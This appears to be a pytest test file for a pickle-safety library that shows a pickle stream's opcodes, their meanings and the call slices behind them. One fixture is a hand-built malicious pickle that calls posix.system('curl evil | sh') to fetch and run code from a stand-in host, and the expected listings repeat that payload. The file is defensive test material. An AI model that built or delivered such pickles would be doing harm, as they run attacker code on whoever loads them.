"""`listing` and `slices`: what a person sees of a stream, with its graph, without one, and when it is broken."""

from __future__ import annotations

import pickle
from collections import OrderedDict
from collections.abc import Iterator
from contextlib import suppress
from typing import TypeVar

import pytest
from hypothesis import given
from hypothesis import strategies as st

from safeload.budget import Budget
from safeload.errors import CheckpointError, StreamError
from safeload.machine.interpret import interpret
from safeload.machine.listing import Line, listing
from safeload.machine.slices import slice_for, slices_for
from safeload.opcodes.assemble import assemble
from safeload.opcodes.decode import Instruction, decode

T = TypeVar("T")

ATTACK = assemble(
    """
    PROTO 2
    GLOBAL posix system
    BINPUT 0
    BINUNICODE 'curl evil | sh'
    TUPLE1
    BINPUT 1
    REDUCE
    POP
    NONE
    STOP
    """
)

TENSOR = assemble(
    """
    PROTO 2
    GLOBAL torch._utils _rebuild_tensor_v2
    MARK
      MARK
        BINUNICODE 'storage'
        GLOBAL torch FloatStorage
        BINUNICODE '0'
        BINUNICODE 'cpu'
        BININT1 16
      TUPLE
      BINPERSID
      BININT1 0
      BININT1 4
      BININT1 4
      TUPLE2
      BININT1 4
      BININT1 1
      TUPLE2
      NEWFALSE
      GLOBAL collections OrderedDict
      EMPTY_TUPLE
      REDUCE
    TUPLE
    REDUCE
    BINPUT 5
    EMPTY_DICT
    BUILD
    STOP
    """
)


def lines(data: bytes, with_graph: bool = True) -> list[Line]:
    return list(listing(data, interpret(data, budget=Budget()) if with_graph else None))


def shown(data: bytes, with_graph: bool = True) -> list[tuple[str, str]]:
    return [(line.name, line.meaning) for line in lines(data, with_graph)]


@pytest.mark.parametrize("with_graph", [True, False])
def test_attack(with_graph: bool) -> None:
    assert shown(ATTACK, with_graph) == [
        ("PROTO", "protocol 2"),
        ("GLOBAL", "names posix.system"),
        ("BINPUT", "memo 0 = posix.system"),
        ("BINUNICODE", ""),
        ("TUPLE1", "('curl evil | sh',)"),
        ("BINPUT", "memo 1 = ('curl evil | sh',)"),
        ("REDUCE", "posix.system('curl evil | sh')"),
        ("POP", "drops posix.system('curl evil | sh')"),
        ("NONE", ""),
        ("STOP", "returns None"),
    ]


def test_tensor() -> None:
    found = shown(TENSOR)
    assert ("BINPERSID", "<storage '0' FloatStorage cpu 16>") in found
    call = "torch._utils._rebuild_tensor_v2(<storage '0' FloatStorage cpu 16>, 0, (4, 4), (4, 1), False, collections.OrderedDict())"
    assert ("REDUCE", call) in found
    assert ("BINPUT", f"memo 5 = {call}"[:120] + "...") in found or ("BINPUT", f"memo 5 = {call}") in found
    assert found[-2] == ("BUILD", f"{call} gets the state {{}}")


OPCODE_MEANINGS = {
    "EMPTY_LIST\nMARK\nBININT1 1\nBININT1 2\nAPPENDS": "[1, 2]",
    "EMPTY_LIST\nBININT1 1\nAPPEND": "[1]",
    "EMPTY_DICT\nBINUNICODE 'a'\nBININT1 1\nSETITEM": "{'a': 1}",
    "MARK\nBININT1 1\nNONE\nDICT": "{1: None}",
    "MARK\nBININT1 1\nFROZENSET": "{1}",
    "EMPTY_SET\nMARK\nBININT1 1\nADDITEMS": "{1}",
    "EMPTY_LIST\nPUT 1\nBININT1 1\nAPPEND\nGET 1": "memo 1: [1]",
    "NONE\nMEMOIZE\nMEMOIZE\nBINGET 1": "memo 1: None",
    "BINUNICODE 'os'\nBINUNICODE 'sys\\x1btem'\nSTACK_GLOBAL": r"names os.sys\x1btem",
    "MARK\nBININT1 1\nINST m C": "m.C(1)",
    "MARK\nGLOBAL m C\nBININT1 1\nOBJ": "m.C(1)",
    "GLOBAL m C\nEMPTY_TUPLE\nNEWOBJ": "new m.C()",
    "GLOBAL m C\nEMPTY_TUPLE\nEMPTY_DICT\nBINUNICODE 'k'\nNONE\nSETITEM\nNEWOBJ_EX": "new m.C(**{'k': None})",
    "GLOBAL m C\nNONE\nAPPEND": "m.C gets the items [None]",
    "GLOBAL m C\nNONE\nNONE\nSETITEM": "m.C gets the items {None: None}",
    "GLOBAL m C\nNONE\nBUILD": "m.C gets the state None",
    "PERSID 'some'": "<persistent id 'some'>",
    "NONE\nDUP": "again None",
    "FRAME 1\nNONE\nFRAME 0": "a frame of 0 bytes",
}


@pytest.mark.parametrize("text", OPCODE_MEANINGS)
def test_meaning(text: str) -> None:
    data = assemble(text + "\nSTOP")
    try:
        graph = interpret(data, budget=Budget())
    except CheckpointError:  # DUP leaves two objects
        graph = None
    assert list(listing(data, graph))[-2].meaning == OPCODE_MEANINGS[text]


def test_a_name_mentioned_again_is_named_again() -> None:
    data = assemble("GLOBAL a b\nGLOBAL a b\nTUPLE2\nSTOP")
    assert [meaning for _, meaning in shown(data)] == ["names a.b", "names a.b", "(a.b, a.b)", "returns (a.b, a.b)"]


def test_a_broken_stream_is_shown_up_to_the_break() -> None:
    found: list[Line] = []
    with pytest.raises(StreamError) as caught:
        _collect(listing(b"K\x01R\x85\xff.", member="m"), found)
    assert [line.name for line in found] == ["BININT1", "REDUCE", "TUPLE1"]
    assert (caught.value.offset, caught.value.member) == (4, "m")


def test_a_start_offset() -> None:
    graph = interpret(b"xx" + ATTACK, budget=Budget(), start=2)
    found = list(listing(b"xx" + ATTACK, graph))
    assert found[0].offset == 2
    assert found[6].meaning == "posix.system('curl evil | sh')"


def test_a_list_that_grows_shows_its_new_items_where_it_is_mentioned() -> None:
    data = assemble("EMPTY_LIST\nBINPUT 0\nBINGET 0\nBININT1 7\nAPPEND\nTUPLE2\nSTOP")
    assert shown(data)[-2] == ("TUPLE2", "([7], [7])")


@given(st.binary(max_size=80))
def test_any_bytes_are_listed(data: bytes) -> None:
    found: list[Line] = []
    wanted: list[Instruction] = []
    with suppress(StreamError):
        _collect(listing(data), found)
    with suppress(StreamError):
        _collect(decode(data), wanted)
    assert [line.offset for line in found] == [each.offset for each in wanted]
    for line in found:
        text = line.argument + line.meaning
        assert text.isprintable() or not text
        assert len(text) < 1_000


def _collect(lines: Iterator[T], into: list[T]) -> None:
    """One by one, so that what came before an error is kept."""
    for line in lines:
        into.append(line)


def test_the_listing_of_a_bomb_is_small() -> None:
    data = b"]q\x000" + b"](h\x00h\x00h\x00h\x00h\x00h\x00h\x00h\x00h\x00h\x00eq\x000" * 60 + b"h\x00."
    assert max(len(line.meaning) for line in lines(data)) < 200


def test_a_deep_stream_is_listed() -> None:
    data = b"N" + b"\x85" * 100_000 + b"."
    assert sum(1 for _ in listing(data)) == 100_002


# ---- slices --------------------------------------------------------------------------------------------------------------------------------


def test_slice_of_a_call() -> None:
    offset = ATTACK.index(b"R0")
    found = slice_for(listing(ATTACK), offset)
    assert [(line.name, line.argument, line.meaning) for line in found] == [
        ("GLOBAL", "posix system", "names posix.system"),
        ("BINUNICODE", "'curl evil | sh'", "argument"),
        ("REDUCE", "", "posix.system('curl evil | sh')"),
    ]


def test_slice_follows_the_memo() -> None:
    filler = "NONE\nPOP\n" * 200
    data = assemble(f"GLOBAL posix system\nPUT 1\nPOP\nBINUNICODE 'id'\nTUPLE1\nPUT 2\nPOP\n{filler}GET 1\nGET 2\nREDUCE\nSTOP")
    assert [line.name for line in slice_for(listing(data), len(data) - 2)] == ["GLOBAL", "BINUNICODE", "REDUCE"]


def test_slice_is_bounded() -> None:
    data = assemble("GLOBAL m f\nMARK\n" + "BININT1 1\n" * 1_000 + "TUPLE\nREDUCE\nSTOP")
    found = slice_for(listing(data), len(data) - 2, before=3)
    assert len(found) == 4
    assert found[0].name == "GLOBAL"


def test_slices_for_several_offsets_in_one_pass() -> None:
    data = assemble("GLOBAL a b\nEMPTY_TUPLE\nREDUCE\nGLOBAL c d\nEMPTY_TUPLE\nREDUCE\nTUPLE2\nSTOP")
    calls = [line.offset for line in listing(data) if line.name == "REDUCE"]
    found = slices_for(listing(data), calls)
    assert [[line.meaning for line in found[offset]] for offset in calls] == [["names a.b", "a.b()"], ["names c.d", "c.d()"]]


def test_no_line_at_the_offset() -> None:
    assert slice_for(listing(ATTACK), 1) == ()


def test_a_slice_of_a_stream_that_breaks_behind_it() -> None:
    assert slice_for(listing(ATTACK[:-2] + b"\xff"), ATTACK.index(b"R0"))[-1].name == "REDUCE"


@pytest.mark.parametrize("protocol", range(6))
def test_ordinary_pickles_are_listed_to_the_end(protocol: int) -> None:
    data = pickle.dumps([OrderedDict(a=(1, [2.5])), {3: b"x"}, {4}, complex(1)], protocol)
    found = lines(data)
    assert [line.offset for line in found] == [each.offset for each in decode(data)]
    assert found[-1].meaning.startswith("returns [collections.OrderedDict(")
